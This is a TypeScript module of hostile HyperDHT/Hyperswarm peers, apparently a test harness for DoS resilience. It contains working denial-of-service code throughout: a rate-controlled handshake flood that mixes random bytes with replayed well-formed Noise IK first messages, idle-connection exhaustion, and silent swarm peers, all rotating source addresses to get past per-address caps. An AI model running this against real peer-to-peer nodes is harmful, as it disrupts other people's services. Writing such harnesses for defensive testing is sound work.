/** Peers that mean no good. Each has addresses of its own, so that caps on one address do not stop them all. */
import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import c from 'compact-encoding'
import HyperDHT from 'hyperdht'
import hyperdhtMessages from 'hyperdht/lib/messages.js'
import NoiseWrap from 'hyperdht/lib/noise-wrap.js'
import Hyperswarm from 'hyperswarm'

export interface Target {
  host: string
  port: number
  publicKey: Buffer
}

export interface Flood {
  perSecond: number
  bootstrap: string[]
  /** Addresses to send from, in turn. */
  from: readonly string[]
}

const peerHandshakeCommand = 0
/** As long as a real first message of Noise IK with its payload. */
const handshakeBytes = 180
/** Sockets for datagrams; each is a whole DHT node. */
const nodesMax = 8
/** Real first messages are made before, and sent again and again: a victim remembers one for some seconds only. */
const wellFormedCount = 2_000

/**
 * Half of it by UDP, addressed to the victim's own server, half by TCP. Every second datagram is noise; the others are
 * well-formed and by keys that nobody will ever use, so that only the curves tell, and a connection is made of each that
 * is let in. Returns a stop that says how many were sent.
 */
export async function floodHandshakes(target: Target, { perSecond, bootstrap, from }: Flood) {
  const nodes = from.slice(0, nodesMax).map((host) => new HyperDHT({ bootstrap, host, firewalled: false }))
  await Promise.all(nodes.map((node) => node.fullyBootstrapped()))
  const wellFormed = Array.from({ length: wellFormedCount }, () => firstMessage(target.publicKey))
  const sockets = new Set<Socket>()
  let sent = 0
  const send = (at: number) => {
    if (at % 2 === 1) return sendTcp(target, from[(at >> 1) % from.length]!, sockets)
    const noise = at % 4 === 0 ? randomBytes(handshakeBytes) : wellFormed[(at >> 2) % wellFormedCount]!
    sendUdp(nodes[(at >> 1) % nodes.length]!, target, noise)
  }
  const started = performance.now()
  // By the clock, not by the tick: a busy machine makes bunches of it, not fewer.
  const timer = setInterval(() => {
    const due = ((performance.now() - started) / 1000) * perSecond
    for (; sent < due; sent++) send(sent)
  }, 20)
  return async () => {
    clearInterval(timer)
    for (const socket of sockets) socket.destroy()
    await Promise.all(nodes.map((node) => node.destroy({ force: true })))
    return sent
  }
}

/** hyperdht/lib/connect.js: what a peer with an open port says first. */
function firstMessage(server: Buffer): Buffer {
  return new NoiseWrap(HyperDHT.keyPair(), server).send({
    error: 0,
    firewall: 1,
    holepunch: null,
    addresses4: [],
    addresses6: [],
    udx: { reusableSocket: false, id: 1, seq: 0 },
    secretStream: {},
    relayThrough: null,
  })
}

function sendUdp(dht: HyperDHT, { host, port, publicKey }: Target, noise: Buffer): void {
  const message = { mode: 0, noise, peerAddress: null, relayAddress: null }
  const value = c.encode(hyperdhtMessages.handshake as never, message)
  const request = { command: peerHandshakeCommand, target: HyperDHT.hash(publicKey), value: Buffer.from(value) }
  dht.request(request, { host, port }, { retry: false }).catch(() => {})
}

function sendTcp({ host, port }: Target, localAddress: string, sockets: Set<Socket>): void {
  const socket = connect({ host, port, localAddress })
  sockets.add(socket)
  socket.on('error', () => {})
  socket.on('connect', () => socket.end(randomBytes(handshakeBytes)))
  socket.on('close', () => sockets.delete(socket))
}

/** Connections that are opened and never used. */
export function idleConnections({ host, port }: Target, count: number, from: readonly string[]): { close(): void } {
  const sockets = Array.from({ length: count }, (_, at) => {
    const socket = connect({ host, port, localAddress: from[at % from.length]! })
    socket.on('error', () => {})
    return socket
  })
  return {
    close: () => {
      for (const socket of sockets) socket.destroy()
    },
  }
}

/** Most have connected by then; on a busy machine the last ones take their time. */
const settleMaxMs = 15_000

/** Peers that join the topic, connect, and say nothing; one at each address. */
export async function silentPeers(topic: Buffer, bootstrap: string[], from: readonly string[]) {
  const swarms = from.map((host) => {
    const swarm = new Hyperswarm({ dht: new HyperDHT({ bootstrap, host, firewalled: false }) })
    swarm.on('connection', (stream) => {
      stream.on('error', () => {})
      stream.resume()
    })
    swarm.join(topic)
    return swarm
  })
  const limit = new Promise((resolve) => setTimeout(resolve, settleMaxMs))
  await Promise.race([Promise.all(swarms.map((swarm) => swarm.flush())), limit])
  return () => Promise.all(swarms.map((swarm) => swarm.destroy({ force: true })))
}
